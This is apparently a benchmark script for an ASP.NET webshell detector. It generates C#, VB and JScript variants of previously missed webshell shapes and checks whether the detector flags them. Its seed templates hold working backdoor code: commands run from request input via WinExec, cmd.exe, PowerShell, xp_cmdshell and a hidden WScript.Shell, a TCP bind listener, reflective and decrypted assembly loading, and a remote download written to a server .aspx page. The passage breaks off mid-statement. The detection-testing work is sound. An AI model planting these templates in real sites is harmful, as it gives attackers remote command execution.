"""Siblings of every first-sight miss: the behaviour a fixed miss had, written the other ways ASP.NET
compiles it - is it still found? (issue 14, helper X44).

A rule written for one missed shell often holds only that shell's spelling; the next unseen shell is its
sibling. Each seed below is the code shape of a first-sight miss of collections X4-X41 (or of a shape that
only one check found), as its harmless reproduction in ``tests/webfiles/test_unseen*`` has it. From each
seed's baseline (C#, ``<script runat=server>``, its miss's request source, its first sink spelling) ONE axis
is varied at a time, in each language the seed compiles in:

* ``language``  - the same behaviour in Visual Basic and JScript .NET (where the API can be called there:
                  no P/Invoke or C#-only syntax in JScript);
* ``container`` - ``<% %>``, ``<script runat=server>``, code-only ``.ashx``/``.asmx``, a code-behind file
                  named by ``CodeFile`` (``p.aspx.cs``/``.vb``) or by ``Src`` (any name; examined as a file
                  a page names, as ``extriage scan`` does), an ``IHttpModule`` class in ``App_Code``;
* ``source``    - ``Request.Params/Form/QueryString/Headers/Cookies/InputStream/Files``, ``Request[..]``,
                  ``Context.Request``, ``HttpContext.Current.Request``, ``Page.Request``, a posted-back
                  server control (``<asp:TextBox>``'s ``Text``, an ``<input runat=server>``'s ``Value``);
* ``sink``      - the sink's other spellings: fully qualified vs imported namespace, ``var`` vs typed,
                  object initialiser vs properties, reflection by name.

Every sibling has a benign twin (the request value and the seed's other request reads replaced by literals)
that must stay silent, unless the seed's shape is a shell whatever the value (xp_cmdshell, a hidden
WScript.Shell, native code run from the page) or only a sink that needs no request input fires on it (a
P/Invoke of WinExec, a type reached by name): those are counted apart, "flagged by design". Each
sibling and twin goes through ``content.examine`` (own YARA and behaviour, as ``extriage scan``) from
temporary files; a code-behind sibling counts as found when its page or its code file is. Counted per axis:
siblings found by nothing, twins flagged (by any own check). The program text, containers and sources are
``mutants.py``'s (``Prog``, ``render_cs/vb/js``, its source tables); this adds the seeds, the code-behind,
VB service and JScript handler containers, and the ``content.examine`` run.

Usage (from the repo root):
    PYTHONPATH=src:tests .venv/bin/python bench/webfiles/siblings.py [--list] [--seeds a,b] [--jobs N]
        [--show NAME]
"""

from __future__ import annotations

import argparse
import re
import shutil
import sys
import tempfile
from collections import defaultdict
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from extriage.detections.webfiles import content
from extriage.detections.webfiles.behaviour import knowledge
from extriage.detections.webfiles.rules import build_ruleset

sys.path.insert(0, str(Path(__file__).resolve().parent))
from mutants import CS_SOURCES, JS_SOURCES, VB_SOURCES, Prog, render_cs, render_js, render_vb

#: One sink spelling: value expression -> (class members, statements).
Spelling = Callable[[str], tuple[list[str], list[str]]]


def body(*lines: str) -> Callable[[str], tuple[list[str], list[str]]]:
    """A spelling with statements only (``{v}`` is the value)."""
    return lambda v: ([], [ln.replace("{v}", v) for ln in lines])


def with_members(members: list[str], *lines: str) -> Spelling:
    return lambda v: (list(members), [ln.replace("{v}", v) for ln in lines])


@dataclass(frozen=True)
class Seed:
    name: str
    origin: str  # collection and test module of the miss
    source: str  # the baseline's request source (a key of SOURCES)
    cs: dict[str, Spelling]
    vb: dict[str, Spelling] = field(default_factory=dict)
    js: dict[str, Spelling] = field(default_factory=dict)
    imports: tuple[str, ...] = ()
    lit: str = '"hostname"'  # the twin's value
    markup: str = ""  # what the miss's page holds beside its code (written into the page, not a handler)
    #: False when the shape is a shell whatever the value (xp_cmdshell, a hidden WScript.Shell, native code
    #: run from the page): its rule fires on the twin by design, counted apart
    twin_quiet: bool = True


@dataclass(frozen=True)
class Sibling:
    seed: str
    axis: str
    variant: str
    twin_quiet: bool
    files: tuple[tuple[str, str, str | None], ...]  # (file name, text, why compiled)
    twin: tuple[tuple[str, str, str | None], ...]


# --------------------------------------------------------------------------------------------
# Sources (the brief's list; the texts are mutants.py's where it has them)

SOURCES: dict[str, dict[str, str]] = {
    "cs": {
        "form": CS_SOURCES["form"],
        "params": CS_SOURCES["params"],
        "querystring": 'Request.QueryString["x"]',
        "index": CS_SOURCES["index"],
        "headers": CS_SOURCES["header"],
        "cookies": CS_SOURCES["cookie"],
        "inputstream": CS_SOURCES["body-streamreader"],
        "files": CS_SOURCES["uploaded-file"],
        "files-name": "Request.Files[0].FileName",
        "context-request": 'Context.Request.Form["x"]',
        "httpcontext-current": CS_SOURCES["httpcontext-current"],
        "page-request": CS_SOURCES["page-request"],
        "control-textbox": "Box.Text",  # a server control posted back (X3, X16, X30, X40)
        "control-htmlinput": "Box.Value",  # an HTML input made a server control (X16)
    },
    "vb": {
        "form": VB_SOURCES["form"],
        "params": VB_SOURCES["params"],
        "querystring": 'Request.QueryString("x")',
        "index": VB_SOURCES["index"],
        "headers": VB_SOURCES["header"],
        "cookies": VB_SOURCES["cookie"],
        "inputstream": VB_SOURCES["body"],
        "files": "New System.IO.StreamReader(Request.Files(0).InputStream).ReadToEnd()",
        "files-name": "Request.Files(0).FileName",
        "context-request": 'Context.Request.Form("x")',
        "httpcontext-current": VB_SOURCES["httpcontext-current"],
        "page-request": VB_SOURCES["page-request"],
        "control-textbox": "Box.Text",  # a server control posted back (X3, X16, X30, X40)
        "control-htmlinput": "Box.Value",  # an HTML input made a server control (X16)
    },
    "js": {
        "form": JS_SOURCES["form"],
        "params": JS_SOURCES["params"],
        "querystring": 'Request.QueryString["x"]',
        "index": JS_SOURCES["index"],
        "headers": JS_SOURCES["header"],
        "cookies": JS_SOURCES["cookie"],
        "inputstream": JS_SOURCES["body"],
        "files": "new System.IO.StreamReader(Request.Files[0].InputStream).ReadToEnd()",
        "files-name": "Request.Files[0].FileName",
        "context-request": 'Context.Request.Form["x"]',
        "httpcontext-current": JS_SOURCES["httpcontext-current"],
        "page-request": JS_SOURCES["page-request"],
        "control-textbox": "Box.Text",  # a server control posted back (X3, X16, X30, X40)
        "control-htmlinput": "Box.Value",  # an HTML input made a server control (X16)
    },
}

#: The markup a control source needs in the page.
_CONTROLS = {
    "Box.Text": '<form runat="server"><asp:TextBox ID="Box" runat="server" /></form>\n',
    "Box.Value": '<form runat="server"><input type="text" id="Box" runat="server" /></form>\n',
}

# --------------------------------------------------------------------------------------------
# Seeds: the code shapes of the misses (BENCHMARKS "Unseen shells" miss lists; /tmp/x44/misses.md)

_KERNEL_CS = '[DllImport("kernel32.dll")]\nstatic extern uint WinExec(string cmd, uint show);'
_VALLOC_CS = (
    '[DllImport("kernel32.dll")]\nstatic extern IntPtr VirtualAlloc(IntPtr a, uint n, uint t, uint p);\n'
    "delegate void Run();"
)
_VALLOC_VB = (
    'Declare Function VirtualAlloc Lib "kernel32.dll" (a As IntPtr, n As UInteger, t As UInteger, '
    "p As UInteger) As IntPtr\nDelegate Sub Run()"
)
_LOGON_CS = (
    '[DllImport("advapi32.dll", SetLastError = true)]\n'
    "static extern bool LogonUser(string u, string d, string p, int t, int pr, out IntPtr h);"
)
_LOGON_VB = (
    'Declare Auto Function LogonUser Lib "advapi32.dll" (u As String, d As String, p As String, '
    "t As Integer, pr As Integer, ByRef h As IntPtr) As Boolean"
)
_CONNECT_CS = (
    'if (Request.QueryString["c"] == "connect") { Socket n = new Socket(AddressFamily.InterNetwork, SocketType.Stream, '
    'ProtocolType.Tcp); n.Connect("127.0.0.1", 22); Session["sock"] = n; }'
)
_LOGON_SCRIPT = (
    '<script>\nfunction sendIt() {\n  var n = document.getElementById("username");\n'
    '  var p = document.getElementById("password");\n'
    '  var s = "a=" + encodeURIComponent(n.value) + "&password=" + encodeURIComponent(p.value);\n'
    '  var h = new XMLHttpRequest();\n  h.open("POST", "/auth/placeholder.aspx", true);\n  h.send(s);\n}\n</script>\n'
    '<input id="username" /><input id="password" type="password" /><button onclick="sendIt()">Sign in</button>\n'
)
_AES_KEY = 'byte[] k = Encoding.UTF8.GetBytes("0123456789abcdef");'
_XOR_HELPER_CS = "static byte[] Dec(byte[] b) { for (int i = 0; i < b.Length; i++) b[i] ^= 7; return b; }"
_XOR_HELPER_VB = (
    "Shared Function Dec(b As Byte()) As Byte()\n For i As Integer = 0 To b.Length - 1\n"
    "  b(i) = b(i) Xor 7\n Next\n Return b\nEnd Function"
)

SEEDS: list[Seed] = [
    Seed(
        "pinvoke-process", "X4 raw10 CreateProcessWebshell (test_behaviour)", "form",
        cs={
            "winexec": with_members([_KERNEL_CS], "WinExec({v}, 0);"),
            "qualified-attribute": with_members(
                ['[System.Runtime.InteropServices.DllImport("kernel32")]\nstatic extern uint WinExec(string c, uint s);'],
                "WinExec({v}, 0);"),
            "entrypoint-alias": with_members(
                ['[DllImport("KERNEL32.DLL", EntryPoint = "WinExec")]\nstatic extern uint Go(string c, uint s);'],
                "Go({v}, 0);"),
            "shellexecute": with_members(
                ['[DllImport("shell32.dll")]\nstatic extern IntPtr ShellExecute(IntPtr h, string op, string f, '
                 "string a, string d, int s);"],
                'ShellExecute(IntPtr.Zero, "open", "cmd.exe", "/c " + {v}, null, 0);'),
            "createprocess": with_members(
                ["struct SI { public int cb; }", "struct PI { public IntPtr p, t; public int a, b; }",
                 '[DllImport("kernel32.dll", CharSet = CharSet.Unicode)]\nstatic extern bool CreateProcess('
                 "string app, string cmd, IntPtr pa, IntPtr ta, bool inh, uint fl, IntPtr env, string dir, "
                 "ref SI si, out PI pi);"],
                "SI si = new SI(); PI pi;", "CreateProcess(null, {v}, IntPtr.Zero, IntPtr.Zero, false, 0, "
                "IntPtr.Zero, null, ref si, out pi);"),
        },
        vb={
            "declare": with_members(['Declare Function WinExec Lib "kernel32" (c As String, s As UInteger) As UInteger'],
                                    "WinExec({v}, 0)"),
            "dllimport": with_members(['<DllImport("kernel32.dll")> Shared Function WinExec(c As String, '
                                       "s As UInteger) As UInteger\nEnd Function"], "WinExec({v}, 0)"),
        },
        imports=("System.Runtime.InteropServices",), twin_quiet=False,
    ),
    Seed(
        "roslyn-script", "X4 raw10 CSharpScript.EvaluateAsync (test_behaviour); X39 Blazor", "querystring",
        cs={
            "evaluate": body("CSharpScript.EvaluateAsync({v}).Wait();"),
            "qualified": body("Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync({v}).Wait();"),
            "runasync": body("var r = CSharpScript.RunAsync({v}).Result;"),
            "create-run": body("Script<object> s = CSharpScript.Create({v});", "s.RunAsync().Wait();"),
            "result-written": body("Response.Write(CSharpScript.EvaluateAsync<object>({v}).Result);"),
        },
        vb={"evaluate": body("CSharpScript.EvaluateAsync({v}).Wait()"),
            "qualified": body("Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync({v}).Wait()")},
        imports=("Microsoft.CodeAnalysis.CSharp.Scripting", "Microsoft.CodeAnalysis.Scripting"),
    ),
    Seed(
        "tcp-listener", "X4 raw10 / X3 raw9 ferryman bind tunnel (test_behaviour)", "querystring",
        cs={
            "listener": body("var l = new TcpListener(IPAddress.Any, int.Parse({v}));", "l.Start();",
                             "Socket s = l.AcceptSocket();", "s.Send(Request.BinaryRead(Request.ContentLength));"),
            "typed-qualified": body(
                "System.Net.Sockets.TcpListener l = new System.Net.Sockets.TcpListener("
                "System.Net.IPAddress.Any, Convert.ToInt32({v}));", "l.Start();",
                "System.Net.Sockets.Socket s = l.AcceptSocket();", "s.Send(Request.BinaryRead(Request.ContentLength));"),
            "endpoint": body("var l = new TcpListener(new IPEndPoint(IPAddress.Any, int.Parse({v})));", "l.Start();",
                             "var c = l.AcceptTcpClient();", "byte[] b = Request.BinaryRead(Request.ContentLength);",
                             "c.GetStream().Write(b, 0, b.Length);"),
            "socket-bind": body("var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);",
                                "s.Bind(new IPEndPoint(IPAddress.Any, int.Parse({v})));", "s.Listen(1);",
                                "Socket c = s.Accept();", "c.Send(Request.BinaryRead(Request.ContentLength));"),
        },
        vb={"listener": body("Dim l As New TcpListener(IPAddress.Any, CInt({v}))", "l.Start()",
                             "Dim s As Socket = l.AcceptSocket()", "s.Send(Request.BinaryRead(Request.ContentLength))")},
        js={"listener": body("var l = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Any, int({v}));",
                             "l.Start();", "var s = l.AcceptSocket();",
                             "s.Send(Request.BinaryRead(Request.ContentLength));")},
        imports=("System.Net", "System.Net.Sockets"), lit='"4444"',
    ),
    Seed(
        "pipe-relay", "X4 raw11 named-pipe C2 relay (test_behaviour pipe-relay)", "inputstream",
        cs={
            "client-write": body('var p = new NamedPipeClientStream(".", "relay", PipeDirection.InOut);', "p.Connect();",
                                 "byte[] b = Encoding.UTF8.GetBytes({v});", "p.Write(b, 0, b.Length);"),
            "qualified-typed": body(
                'System.IO.Pipes.NamedPipeClientStream p = new System.IO.Pipes.NamedPipeClientStream(".", "relay");',
                "p.Connect(1000);", "byte[] b = System.Text.Encoding.UTF8.GetBytes({v});", "p.Write(b, 0, b.Length);"),
            "streamwriter": body('var p = new NamedPipeClientStream(".", "relay", PipeDirection.InOut);', "p.Connect();",
                                 "var w = new StreamWriter(p);", "w.Write({v});", "w.Flush();"),
        },
        vb={"client-write": body('Dim p As New NamedPipeClientStream(".", "relay", PipeDirection.InOut)', "p.Connect()",
                                 "Dim b As Byte() = Encoding.UTF8.GetBytes({v})", "p.Write(b, 0, b.Length)")},
        imports=("System.IO", "System.IO.Pipes", "System.Text"),
    ),
    Seed(
        "upload-app-root", "X3 raw9 uploaders into the application root (test_behaviour upload-to-app-root)",
        "files-name",
        cs={
            "basedirectory": body("Request.Files[0].SaveAs(AppDomain.CurrentDomain.BaseDirectory + {v});"),
            "mappath-combine": body('Request.Files[0].SaveAs(Path.Combine(Server.MapPath("~/"), Path.GetFileName({v})));'),
            "appdomainapppath": body("Request.Files[0].SaveAs(HttpRuntime.AppDomainAppPath + {v});"),
            "posted-file-local": body("HttpPostedFile f = Request.Files[0];",
                                      'f.SaveAs(Server.MapPath("~/" + {v}));'),
            "qualified-writeallbytes": body(
                "byte[] d = new byte[Request.Files[0].ContentLength];", "Request.Files[0].InputStream.Read(d, 0, d.Length);",
                "System.IO.File.WriteAllBytes(System.AppDomain.CurrentDomain.BaseDirectory + {v}, d);"),
        },
        vb={"basedirectory": body("Request.Files(0).SaveAs(AppDomain.CurrentDomain.BaseDirectory & {v})"),
            "mappath-combine": body('Request.Files(0).SaveAs(Path.Combine(Server.MapPath("~/"), Path.GetFileName({v})))')},
        js={"basedirectory": body("Request.Files[0].SaveAs(AppDomain.CurrentDomain.BaseDirectory + {v});")},
        imports=("System.IO",), lit='"report.txt"',
    ),
    Seed(
        "xslt-script", "X3 raw9 MuddyWater XSLT with EnableScript (test_behaviour xslt-script)", "form",
        cs={
            "settings-ctor": body("var d = new XmlDocument();", "d.LoadXml({v});", "var x = new XslCompiledTransform();",
                                  "x.Load(d, new XsltSettings(false, true), new XmlUrlResolver());",
                                  "x.Transform(d, null, Response.Output);"),
            "initializer": body("var d = new XmlDocument();", "d.LoadXml({v});", "var x = new XslCompiledTransform();",
                                "x.Load(d, new XsltSettings { EnableScript = true }, null);",
                                "x.Transform(d, null, Response.Output);"),
            "properties": body("XsltSettings s = new XsltSettings();", "s.EnableScript = true;",
                               "XslCompiledTransform x = new XslCompiledTransform();",
                               "x.Load(XmlReader.Create(new StringReader({v})), s, null);",
                               "x.Transform(new XmlDocument(), null, Response.Output);"),
            "trusted-qualified": body("var x = new System.Xml.Xsl.XslCompiledTransform();",
                                      "x.Load(System.Xml.XmlReader.Create(new System.IO.StringReader({v})), "
                                      "System.Xml.Xsl.XsltSettings.TrustedXslt, null);",
                                      "x.Transform(new System.Xml.XmlDocument(), null, Response.Output);"),
        },
        vb={"settings-ctor": body("Dim d As New XmlDocument()", "d.LoadXml({v})", "Dim x As New XslCompiledTransform()",
                                  "x.Load(d, New XsltSettings(False, True), New XmlUrlResolver())",
                                  "x.Transform(d, Nothing, Response.Output)")},
        imports=("System.IO", "System.Xml", "System.Xml.Xsl"), lit='"<x/>"',
    ),
    Seed(
        "config-secret", "X3 raw9 ConnectionStrings[TextBox.Text] (test_behaviour config-secret)", "form",
        cs={
            "configurationmanager": body("Response.Write(ConfigurationManager.ConnectionStrings[{v}].ConnectionString);"),
            "webconfigurationmanager": body(
                "Response.Write(WebConfigurationManager.ConnectionStrings[{v}].ConnectionString);"),
            "typed-local": body("ConnectionStringSettings c = ConfigurationManager.ConnectionStrings[{v}];",
                                "Response.Write(c.ConnectionString);"),
            "qualified": body(
                "Response.Write(System.Configuration.ConfigurationManager.ConnectionStrings[{v}].ConnectionString);"),
        },
        vb={"configurationmanager": body("Response.Write(ConfigurationManager.ConnectionStrings({v}).ConnectionString)")},
        js={"configurationmanager": body(
            "Response.Write(System.Configuration.ConfigurationManager.ConnectionStrings[{v}].ConnectionString);")},
        imports=("System.Configuration", "System.Web.Configuration"), lit='"Main"',
    ),
    Seed(
        "wmi-process", "X4 raw10 WMI Win32_Process.Create (YARA only at first sight; test_behaviour)", "form",
        cs={
            "invokemethod": body('new ManagementClass("Win32_Process").InvokeMethod("Create", new object[] { {v} });'),
            "path-qualified": body(
                'var c = new System.Management.ManagementClass(@"\\\\.\\root\\cimv2:Win32_Process");',
                'c.InvokeMethod("Create", new object[] { {v} });'),
            "in-parameters": body('ManagementClass c = new ManagementClass("Win32_Process");',
                                  'ManagementBaseObject p = c.GetMethodParameters("Create");',
                                  'p["CommandLine"] = {v};', 'c.InvokeMethod("Create", p, null);'),
            "scope-path": body(r'var s = new ManagementScope(@"\\.\root\cimv2");',
                               'var c = new ManagementClass(s, new ManagementPath("Win32_Process"), null);',
                               'c.InvokeMethod("Create", new object[] { {v} });'),
        },
        vb={"invokemethod": body('Dim c As New ManagementClass("Win32_Process")',
                                 'c.InvokeMethod("Create", New Object() { {v} })')},
        js={"invokemethod": body('var c = new System.Management.ManagementClass("Win32_Process");',
                                 'c.InvokeMethod("Create", [ {v} ]);')},
        imports=("System.Management",),
    ),
    Seed(
        "reflected-load", "X8 Godzilla handler, X41 ASMX (test_unseen8_tools, test_unseen41_sample)", "form",
        cs={
            "typeof-getmethod": body('typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) })'
                                     ".Invoke(null, new object[] { Convert.FromBase64String({v}) });"),
            "gettype-name": body('Type.GetType("System.Reflection.Assembly").GetMethod("Load", new Type[] { typeof(byte[]) })'
                                 ".Invoke(null, new object[] { Convert.FromBase64String({v}) });"),
            "typed-methodinfo": body('MethodInfo m = typeof(Assembly).GetMethod("Load", new[] { typeof(byte[]) });',
                                     "object a = m.Invoke(null, new object[] { Convert.FromBase64String({v}) });"),
            "invokemember": body('typeof(Assembly).InvokeMember("Load", BindingFlags.InvokeMethod | BindingFlags.Public | '
                                 "BindingFlags.Static, null, null, new object[] { Convert.FromBase64String({v}) });"),
            "qualified": body('typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) })'
                              ".Invoke(null, new object[] { System.Convert.FromBase64String({v}) });"),
        },
        vb={"gettype": body('GetType(Assembly).GetMethod("Load", New Type() {GetType(Byte())})'
                            ".Invoke(Nothing, New Object() {Convert.FromBase64String({v})})")},
        js={"gettype": body('System.Type.GetType("System.Reflection.Assembly").GetMethod("Load", '
                            '[System.Type.GetType("System.Byte[]")]).Invoke(null, [System.Convert.FromBase64String({v})]);')},
        imports=("System.Reflection",), lit='"AAAA"',
    ),
    Seed(
        "com-shell-hidden", "X13 JScript WScript.Shell by CLSID / encoded ProgID (test_unseen13_intl)", "form",
        cs={
            "clsid": body('dynamic sh = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid('
                          '"72C24DD5-D70A-438B-8A42-98424B88AFB8")));', "sh.Run({v});"),
            "progid-split": body('dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScr" + "ipt.Sh" + "ell"));',
                                 "sh.Run({v});"),
        },
        vb={"clsid": body('Dim sh As Object = Activator.CreateInstance(Type.GetTypeFromCLSID('
                          'New Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8")))', "sh.Run({v})"),
            "createobject-split": body('Dim sh As Object = CreateObject("WScr" & "ipt.Sh" & "ell")', "sh.Run({v})")},
        js={"clsid": body('var sh = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8");', "sh.Run({v});"),
            "unescape": body('var sh = new ActiveXObject(unescape("%57%53%63%72%69%70%74%2E%53%68%65%6C%6C"));',
                             "sh.Run({v});")}, twin_quiet=False,
    ),
    Seed(
        "com-download", "X13 JScript XMLHTTP + ADODB.Stream.SaveToFile (test_unseen13_intl)", "form",
        js={"activex": body('var h = new ActiveXObject("Microsoft.XMLHTTP");', 'h.open("GET", {v}, false);', "h.send();",
                            'var s = new ActiveXObject("ADODB.Stream");', "s.Type = 1;", "s.Open();",
                            "s.Write(h.responseBody);", 's.SaveToFile(Server.MapPath("~/n.aspx"), 2);')},
        cs={
            "dynamic-progid": body(
                'dynamic h = Activator.CreateInstance(Type.GetTypeFromProgID("Microsoft.XMLHTTP"));',
                'h.open("GET", {v}, false);', "h.send();",
                'dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("ADODB.Stream"));',
                "s.Type = 1;", "s.Open();", "s.Write(h.responseBody);", 's.SaveToFile(Server.MapPath("~/n.aspx"), 2);'),
            "serverxmlhttp": body(
                'dynamic h = Activator.CreateInstance(Type.GetTypeFromProgID("MSXML2.ServerXMLHTTP"));',
                'h.open("GET", {v}, false);', "h.send();",
                'dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("ADODB.Stream"));',
                "s.Type = 1;", "s.Open();", "s.Write(h.responseBody);", 's.SaveToFile(Server.MapPath("~/n.aspx"), 2);'),
        },
        vb={"createobject": body('Dim h As Object = CreateObject("Microsoft.XMLHTTP")', 'h.open("GET", {v}, False)',
                                 "h.send()", 'Dim s As Object = CreateObject("ADODB.Stream")', "s.Type = 1", "s.Open()",
                                 "s.Write(h.responseBody)", 's.SaveToFile(Server.MapPath("~/n.aspx"), 2)'),
            "server-createobject": body('Dim h As Object = Server.CreateObject("WinHttp.WinHttpRequest.5.1")',
                                        'h.Open("GET", {v}, False)', "h.Send()",
                                        'Dim s As Object = Server.CreateObject("ADODB.Stream")', "s.Type = 1",
                                        "s.Open()", "s.Write(h.ResponseBody)",
                                        's.SaveToFile(Server.MapPath("~/n.aspx"), 2)')},
        lit='"http://example.invalid/a.txt"',
    ),
    Seed(
        "request-to-page", "X13 round 5 request text written to a fixed server page (test_unseen13_intl)", "form",
        cs={
            "writealltext": body('File.WriteAllText(Server.MapPath("note.aspx"), {v});'),
            "qualified": body('System.IO.File.WriteAllText(Server.MapPath("~/note.aspx"), {v});'),
            "streamwriter": body('using (StreamWriter w = new StreamWriter(Server.MapPath("note.aspx"))) { w.Write({v}); }'),
            "createtext-var": body('var w = File.CreateText(Server.MapPath("note.aspx"));', "w.Write({v});", "w.Close();"),
            "writeallbytes": body('File.WriteAllBytes(Server.MapPath("note.ashx"), Encoding.UTF8.GetBytes({v}));'),
        },
        vb={"writealltext": body('File.WriteAllText(Server.MapPath("note.aspx"), {v})'),
            "streamwriter": body('Dim w As New StreamWriter(Server.MapPath("note.aspx"))', "w.Write({v})", "w.Close()")},
        js={"writealltext": body('System.IO.File.WriteAllText(Server.MapPath("note.aspx"), {v});')},
        imports=("System.IO", "System.Text"), lit='"example"',
    ),
    Seed(
        "sql-xp-cmdshell", "X14 SQL Server OS commands (test_unseen14_found sql_os_commands)", "form",
        cs={
            "concat": body('var c = new SqlConnection("Server=.;Integrated Security=true");', "c.Open();",
                           "new SqlCommand(\"exec master..xp_cmdshell '\" + {v} + \"'\", c).ExecuteNonQuery();"),
            "format-qualified": body(
                'var c = new System.Data.SqlClient.SqlConnection("Server=.;Integrated Security=true");', "c.Open();",
                "new System.Data.SqlClient.SqlCommand(string.Format(\"EXEC xp_cmdshell '{0}'\", {v}), c).ExecuteReader();"),
            "parameter": body('var c = new SqlConnection("Server=.;Integrated Security=true");', "c.Open();",
                              'SqlCommand k = new SqlCommand("EXEC xp_cmdshell @c", c);',
                              'k.Parameters.AddWithValue("@c", {v});', "k.ExecuteNonQuery();"),
            "initializer": body('var c = new SqlConnection("Server=.;Integrated Security=true");', "c.Open();",
                                "var k = new SqlCommand { Connection = c, CommandText = \"xp_cmdshell '\" + {v} + \"'\" };",
                                "k.ExecuteNonQuery();"),
        },
        vb={"concat": body('Dim c As New SqlConnection("Server=.;Integrated Security=true")', "c.Open()",
                           "Dim k As New SqlCommand(\"exec master..xp_cmdshell '\" & {v} & \"'\", c)",
                           "k.ExecuteNonQuery()")},
        imports=("System.Data.SqlClient",), lit='"dir"', twin_quiet=False,
    ),
    Seed(
        "powershell", "X15 PowerShell runspace fed by a text box (test_unseen15_kits)", "form",
        cs={
            "addscript": body("var ps = PowerShell.Create();", "ps.AddScript({v});", "ps.Invoke();"),
            "qualified-chain": body("System.Management.Automation.PowerShell.Create().AddScript({v}).Invoke();"),
            "invoke-expression": body("using (PowerShell ps = PowerShell.Create()) {",
                                      'ps.AddCommand("Invoke-Expression").AddArgument({v});', "ps.Invoke(); }"),
            "runspace-pipeline": body("Runspace r = RunspaceFactory.CreateRunspace();", "r.Open();",
                                      "Pipeline p = r.CreatePipeline();", "p.Commands.AddScript({v});", "p.Invoke();"),
        },
        vb={"addscript": body("Dim ps As PowerShell = PowerShell.Create()", "ps.AddScript({v})", "ps.Invoke()")},
        imports=("System.Management.Automation", "System.Management.Automation.Runspaces"), lit='"Get-Date"',
    ),
    Seed(
        "process-program", "X16 program from server controls, X21 Process.Start(Request[..]) (test_unseen16, 21)",
        "index",
        cs={
            "start": body("Process.Start({v});"),
            "qualified": body("System.Diagnostics.Process.Start({v});"),
            "psi-properties": body("ProcessStartInfo p = new ProcessStartInfo();", "p.FileName = {v};",
                                   "p.UseShellExecute = false;", "Process.Start(p);"),
            "psi-initializer": body("var p = new ProcessStartInfo { FileName = {v}, UseShellExecute = false };",
                                    "Process.Start(p);"),
            "process-object": body("var p = new Process();", "p.StartInfo.FileName = {v};", "p.Start();"),
            "reflection": body('Type.GetType("System.Diagnostics.Process").GetMethod("Start", new Type[] { typeof(string) })'
                               ".Invoke(null, new object[] { {v} });"),
        },
        vb={"start": body("Process.Start({v})"),
            "psi-ctor": body("Dim p As New ProcessStartInfo({v})", "p.UseShellExecute = False", "Process.Start(p)")},
        js={"start": body("System.Diagnostics.Process.Start({v});")},
        imports=("System.Diagnostics",), lit='"notepad.exe"',
    ),
    Seed(
        "cmd-output", "X19 cmd started bare, output read in one expression; X30 control via variable", "form",
        cs={
            "initializer-chain": body('Response.Write(Process.Start(new ProcessStartInfo("cmd.exe", "/c " + {v}) '
                                      "{ UseShellExecute = false, RedirectStandardOutput = true })"
                                      ".StandardOutput.ReadToEnd());"),
            "properties": body("ProcessStartInfo i = new ProcessStartInfo();", 'i.FileName = "cmd.exe";',
                               'i.Arguments = "/c " + {v};', "i.UseShellExecute = false;",
                               "i.RedirectStandardOutput = true;",
                               "Response.Write(Process.Start(i).StandardOutput.ReadToEnd());"),
            "qualified-powershell": body(
                "var p = new System.Diagnostics.Process();", 'p.StartInfo.FileName = "powershell.exe";',
                'p.StartInfo.Arguments = "-c " + {v};', "p.StartInfo.UseShellExecute = false;",
                "p.StartInfo.RedirectStandardOutput = true;", "p.Start();",
                "Response.Write(p.StandardOutput.ReadToEnd());"),
            "string-format": body('var i = new ProcessStartInfo("cmd", string.Format("/c {0}", {v}));',
                                  "i.RedirectStandardOutput = true;", "i.UseShellExecute = false;",
                                  "Response.Write(Process.Start(i).StandardOutput.ReadToEnd());"),
        },
        vb={"properties": body('Dim i As New ProcessStartInfo("cmd.exe", "/c " & {v})', "i.UseShellExecute = False",
                               "i.RedirectStandardOutput = True",
                               "Response.Write(Process.Start(i).StandardOutput.ReadToEnd())")},
        js={"properties": body('var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + {v});',
                               "i.UseShellExecute = false;", "i.RedirectStandardOutput = true;",
                               "Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());")},
        imports=("System.Diagnostics",), lit='"ver"',
    ),
    Seed(
        "aes-load", "X21 Behinder AES body loader (test_unseen21_names)", "inputstream",
        cs={
            "rijndael": body(_AES_KEY, "byte[] b = Convert.FromBase64String({v});",
                             "Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(b, 0, b.Length))"
                             '.CreateInstance("U").Equals(this);'),
            "aes-create": body(_AES_KEY, "byte[] b = Convert.FromBase64String({v});",
                               "var a = Aes.Create();", "ICryptoTransform t = a.CreateDecryptor(k, k);",
                               "byte[] raw = t.TransformFinalBlock(b, 0, b.Length);",
                               'Assembly.Load(raw).CreateInstance("U").Equals(this);'),
            "appdomain-qualified": body(
                'byte[] k = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");',
                "byte[] b = System.Convert.FromBase64String({v});",
                "System.AppDomain.CurrentDomain.Load(new System.Security.Cryptography.AesManaged()"
                '.CreateDecryptor(k, k).TransformFinalBlock(b, 0, b.Length)).CreateInstance("U");'),
        },
        vb={"rijndael": body('Dim k As Byte() = Encoding.UTF8.GetBytes("0123456789abcdef")',
                             "Dim b As Byte() = Convert.FromBase64String({v})",
                             "Assembly.Load(New RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(b, 0, b.Length))"
                             '.CreateInstance("U").Equals(Me)')},
        imports=("System.Reflection", "System.Security.Cryptography", "System.Text"), lit='"AAAA"',
    ),
    Seed(
        "helper-load", "X23 Behinder 4 helper-decrypted body (test_unseen23_threads)", "inputstream",
        cs={
            "helper-inline": with_members([_XOR_HELPER_CS],
                                          'Assembly.Load(Dec(Convert.FromBase64String({v}))).CreateInstance("U");'),
            "helper-local": with_members([_XOR_HELPER_CS], "byte[] raw = Dec(Convert.FromBase64String({v}));",
